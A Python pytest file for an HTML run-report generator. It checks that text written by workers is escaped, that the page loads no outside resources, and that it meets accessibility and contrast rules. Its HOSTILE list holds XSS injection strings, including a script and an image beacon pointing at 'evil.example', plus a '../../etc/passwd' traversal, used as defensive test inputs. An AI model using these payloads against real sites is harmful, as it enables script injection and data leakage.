"""The report as a page: one document that needs nothing else, in which what workers wrote is text and nothing more."""

from __future__ import annotations

import base64
import hashlib
import os
import re
import shutil
import subprocess
from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from dodo_claude.report import record
from dodo_claude.report.details import Change, Details, Excerpt, Remark
from dodo_claude.report.page import CSS, MOST_LEFT, is_page, page
from dodo_claude.report.record import CheckReport, GroupReport, RunReport
from dodo_claude.text.clean import clean_line, clean_text
from tests.samples.pages import Parsed, text_of
from tests.samples.reports import ATTEMPT, ITEM, STAGE
from tests.samples.runs import GOOD, run_of


def full(said: str) -> tuple[RunReport, dict[str, Details]]:
    """A report that has `said` wherever a text of others may be, names too."""
    said, line = clean_text(f"x{said}"), clean_line(f"x{said}")
    attempt = replace(ATTEMPT, why=line, folder=line)
    file = replace(STAGE.files[0], path=line, kept=line)
    stage = replace(
        STAGE, name=f"{line}1", agent=line, reason=line, message=said, attempts=(attempt, attempt), files=(file,),
        checks=(CheckReport("check", line, "failed", said),), needs=(line,), waits_for=(line,),
    )  # fmt: skip
    good = replace(
        stage, name=f"{line}2", state=record.DONE, checks=(CheckReport("check", line, "passed", ""),)
    )
    members = [replace(good, name=f"{line}3-{number}", group=line) for number in range(14)]
    group = GroupReport(line, {"done": 14}, 1.0, 1, None, tuple(each.name for each in members))
    excerpt = Excerpt(said, 3)
    remark = Remark(120.0, line, "asks", excerpt)
    more = Details(
        prompts=(("prompt", excerpt),),
        changes=(Change(line, "changed", (f" {line}", f"+{line}", f"-{line}", "@@ @@"), True, 4),),
        files_left_out=1,
        output=excerpt,
        message=excerpt,
        remarks=(remark, remark),
        remarks_left_out=2,
    )
    text = replace(more, changes=(Change(line, "new", (line, line)),))
    told = run_of(stage, good, *members, replace(ITEM, name=f"{line}4", waits_for=(line,)), groups=(group,),
                  stopped=line, name=line)  # fmt: skip
    return told, {stage.name: more, good.name: text}


PLAIN = Parsed(page(*full("")))
HOSTILE = [
    "</script><script>alert(1)</script>",
    "</pre></details></main></body></html><h1>Done</h1>",
    "</title><script src=//evil.example/x.js></script>",
    "</style><style>*{display:none}</style>",
    "javascript:alert(1)",
    '" onmouseover="alert(1)" x="',
    "' onload='alert(1)",
    "<!-- --><![CDATA[<svg onload=alert(1)>]]><?php ?>",
    '<img src="https://evil.example/?leak">',
    "<a href=javascript:alert(1)>look</a>",
    "&lt;script&gt;&amp;&#60;b&#x3e;",
    "\x00\x1b[31m\x1b]0;t\x07\x08\x85\x9b\ud800\ufffe",
    "evil \u202etxt.exe\u2066\u2028 <b>",
    "`${alert(1)}` {{ 7*7 }} {% x %}",
    "x" * 5_000,
    "a:b:c/../../etc/passwd",
]


def check_safe(told: RunReport, details: Mapping[str, Details], said: str) -> None:
    document = page(told, details)
    document.encode()
    found = Parsed(document)
    # The same elements with the same attributes, whatever is said in them.
    assert found.tags == PLAIN.tags
    assert found.headings == PLAIN.headings
    for key in ("href", "id", "class", "http-equiv"):
        assert found.values(key) == PLAIN.values(key)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", document)
    # And all of it can be read, as it was.
    assert clean_text(f"x{said}") in found.text


@pytest.mark.parametrize("said", HOSTILE)
def test_what_workers_wrote_is_text(said: str) -> None:
    check_safe(*full(said), said)


@settings(max_examples=60, deadline=None)  # a whole page each time
@given(
    st.one_of(st.text(st.characters(exclude_categories=[])), st.text("<>&\"'/=!-`\x00\n a;#x", max_size=60))
)
@example("\n\nfirst lines")
def test_whatever_they_wrote_is_text(said: str) -> None:
    check_safe(*full(said), said)


def test_it_needs_nothing_else() -> None:
    names = {name for name, _ in PLAIN.tags}
    assert not names & {
        "script",
        "link",
        "img",
        "iframe",
        "object",
        "embed",
        "base",
        "form",
        "image",
        "use",
        "foreignobject",
    }
    keys = {key for _, key, _ in PLAIN.attributes}
    assert not keys & {"src", "srcset", "style", "action", "ping", "background", "xlink:href"}
    assert not [key for key in keys if key.startswith("on")]
    assert {value[:1] for value in PLAIN.values("href")} == {"#"}
    css = CSS.read_text()
    assert not re.search(r"url\(|@import|@font-face|expression|</", css)
    assert not re.search(r"https?:|//", page(*full("")).replace(css, ""))


def test_its_policy_allows_its_own_style_and_nothing_more() -> None:
    document = page(*full(""))
    (policy,) = [
        value
        for name, key, value in PLAIN.attributes
        if (name, key) == ("meta", "content") and "-src" in value
    ]
    style = document.split("<style>")[1].split("</style>")[0]
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    assert policy == f"default-src 'none'; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"
    # It holds for all that comes after it: nothing but the charset stands before.
    assert PLAIN.tags[:5] == [
        ("html", ("lang",)), ("head", ()), ("meta", ("charset",)), ("meta", ("http-equiv", "content")),
        ("meta", ("name", "content")),
    ]  # fmt: skip


def test_it_can_be_read_by_ear_and_keyboard() -> None:
    assert PLAIN.declarations == ["DOCTYPE html"]
    assert PLAIN.values("lang") == ["en"]
    assert PLAIN.headings[0] == 1
    assert PLAIN.headings.count(1) == 1
    assert all(after <= before + 1 for before, after in zip(PLAIN.headings, PLAIN.headings[1:], strict=False))
    ids = PLAIN.values("id")
    assert len(ids) == len(set(ids))
    assert {value[1:] for value in PLAIN.values("href")} <= set(ids)
    # Drawings say what they show; what scrolls can be reached.
    drawings = [keys for name, keys in PLAIN.tags if name == "svg"]
    assert all("aria-label" in keys or "aria-hidden" in keys for keys in drawings)
    (graph,) = [keys for name, keys in PLAIN.tags if name == "div" and "tabindex" in keys]
    assert {"role", "aria-label"} <= {*graph}
    title = page(run_of(GOOD, STAGE), {}).split("<title>")[1].split("</title>")[0]
    assert title == "p: 1 done, 1 failed"


def palettes() -> list[dict[str, str]]:
    light, dark = (
        dict(re.findall(r"--([a-z-]+): (#[0-9a-f]{6});", part))
        for part in CSS.read_text().split("* { box-sizing")[0].split("@media")
    )
    return [light, dark]


def luminance(colour: str) -> float:
    parts = [int(colour[at : at + 2], 16) / 255 for at in (1, 3, 5)]
    red, green, blue = (
        part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts
    )
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


def contrast(one: str, other: str) -> float:
    low, high = sorted((luminance(one), luminance(other)))
    return (high + 0.05) / (low + 0.05)


@pytest.mark.parametrize("palette", palettes(), ids=["light", "dark"])
def test_texts_stand_out_from_their_ground(palette: dict[str, str]) -> None:
    assert contrast("#000000", "#ffffff") == 21
    grounds = {"ground", "panel"}
    marks = {"added", "removed", "hunk"}
    texts = palette.keys() - grounds - marks - {"line"}
    assert {state.replace(" ", "-") for state in record.STATES} <= texts
    for ground in grounds:
        for text in texts:
            assert contrast(palette[text], palette[ground]) >= 4.5, (text, ground)
    for ground in marks:
        assert contrast(palette["text"], palette[ground]) >= 4.5, ground


def test_both_palettes_name_the_same_colours() -> None:
    light, dark = palettes()
    assert light.keys() == dark.keys()
    used = set(re.findall(r"var\(--([a-z-]+)\)", CSS.read_text())) - {"tick"}
    assert used == light.keys()


# -- what it tells


def test_the_sums_and_what_is_left_stand_on_top() -> None:
    text = text_of(run_of(GOOD, STAGE, ITEM, stopped="budget of 1 min used"))
    for words in (
        "Stopped: budget of 1 min used", "cost0.25 USD", "tokens1 200", "attempts11 repair",
        "api: failed: check `make` ended with exit status 2", "map:a: not run: needs api",
    ):  # fmt: skip
        assert words in text
        assert text.index(words) < text.rindex("Timeline")
    assert "Nothing: all stages are done." in text_of(run_of(GOOD))
    assert "Nothing: all" not in text


def test_a_stage_with_all_that_is_known_of_it() -> None:
    details = Details(
        prompts=(("prompt", Excerpt("Write it.", 5)), ("prompt of phase 2", Excerpt("Test it."))),
        changes=(
            Change("ui.py", "new", ("a = 1", "b = 2"), left_out=7),
            Change("a.png", "changed", why="it is no text"),
        ),
        output=Excerpt("all fine"),
        message=Excerpt("I made it."),
        remarks=(Remark(130.0, "backend", "says to it", Excerpt("use 8080", 3)),),
        remarks_left_out=1,
    )
    text = text_of(run_of(GOOD), {"ui": details})
    for words in (
        "Last message\nI made it.", "check passed: test -s ui.py", "what it said\nall fine",
        "ui.py new, 3 lines\na = 1\nb = 2", "7 more lines: left out here", "a.png changed, 2 048 bytes (it is no text)",
        "2 succeeded: begun at +0 s, took 40 s, 2 prompts, 7 tools, 1 repair, 1 200 tokens, 0.25 USD",
        "+30 s backend says to it: use 8080 (and 3 more characters)", "1 more message", "Prompt14 characters",
        "Write it.5 characters are left out here; all of it is in .orchestrate/stages/api/2/",
        "Prompt of phase 28 characters\nTest it.",
    ):  # fmt: skip
        assert words in text, words


def test_a_diff_shows_what_came_and_went() -> None:
    change = Change("ui.py", "changed", ("@@ -1 +1 @@", " same", "-old", "+new"), is_diff=True)
    document = page(run_of(GOOD), {"ui": Details(changes=(change,))})
    for line, kind in (("@@ -1 +1 @@", "hunk"), ("-old", "removed"), ("+new", "added")):
        assert f'<span class="{kind}">{line}</span>' in document
    assert "<span> same</span>" in document


def test_a_failed_stage_is_unfolded_unless_many_failed() -> None:
    few = page(run_of(GOOD, STAGE), {})
    assert few.count('<details class="stage" open>') == 1
    assert '<details class="stage" open><summary><span class="failed"' in few
    many = page(run_of(*(replace(STAGE, name=f"s{number}") for number in range(6))), {})
    assert '<details class="stage" open>' not in many


def map_of(count: int, **changes: object) -> RunReport:
    items = [
        replace(GOOD, name=f"map:{number}", group="map", attempts=(replace(ATTEMPT, began=100.0 + number % 5, seconds=1.0),))
        for number in range(count)
    ]  # fmt: skip
    group = GroupReport("map", {"done": count}, 9.0, 0, None, tuple(item.name for item in items))
    last = replace(GOOD, name="reduce", needs=("map",))
    return run_of(*items, last, groups=(group,), **changes)


def test_a_large_group_is_one_row_one_box_and_one_line() -> None:
    document = page(map_of(200), {})
    top = document.split('<ol class="times">')[1]
    assert top.split("<details>")[0].count("<li>") == 1  # the axis has attributes
    # Five at a time one after the other: as many lanes as there were workers.
    lanes = {float(y) for y in re.findall(r'y="([\d.]+)" height="5"', top)}
    assert len(lanes) == 40
    graph = document.split('<h2 id="graph">')[1].split("</section>")[0]
    assert graph.count('class="box"') == 2
    assert graph.count('class="edge"') == 1
    assert len(re.findall(r"<rect [^>]*><title>map:\d+: done", graph)) == 200
    assert document.count('<details class="group">') == 1
    assert page(map_of(5), {}).count('<details class="group" open>') == 1


def test_thousands_of_stages_stay_a_page() -> None:
    document = page(map_of(2_000), {})
    assert len(document) < 3_000_000
    graph = document.split('<h2 id="graph">')[1].split("</section>")[0]
    assert len(graph) < 5_000
    text = Parsed(document).text
    assert "1 800 more stages: below, under Stages." in text
    assert "Of 2 001 stages prompts, files, outputs and messages are left out here" in text
    failed = run_of(*(replace(STAGE, name=f"s{number}") for number in range(MOST_LEFT + 7)))
    assert "And 7 more stages: see below." in text_of(failed)


def test_a_stage_without_details_says_where_they_are() -> None:
    text = text_of(run_of(GOOD))
    assert "More is left out here: it is in .orchestrate/stages/api/2/" in text
    assert "ui.py new, 3 lines" in text


# -- in a browser


@pytest.mark.skipif(shutil.which("chromium") is None, reason="chromium is not installed")
def test_a_browser_finds_no_script_in_it(tmp_path: Path) -> None:
    told, details = full("".join(HOSTILE))
    file = tmp_path / "report.html"
    file.write_text(page(told, details), encoding="utf-8")
    done = subprocess.run(
        ["chromium", "--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={tmp_path}/u", "--dump-dom", f"file://{file}"],
        capture_output=True, text=True, timeout=120, check=True, env={"HOME": str(tmp_path), "PATH": os.environ["PATH"]},
    )  # fmt: skip
    seen = re.findall(r"<([a-zA-Z][a-zA-Z0-9]*)[\s>]", done.stdout)
    # As the plain document has them: the browser has built no element from what was written.
    assert seen == [name for name, _ in PLAIN.tags]


def test_ours_are_known_again() -> None:
    assert is_page(page(*full("")))
    assert not is_page("<!DOCTYPE html>\n<html><body>my notes</body></html>")
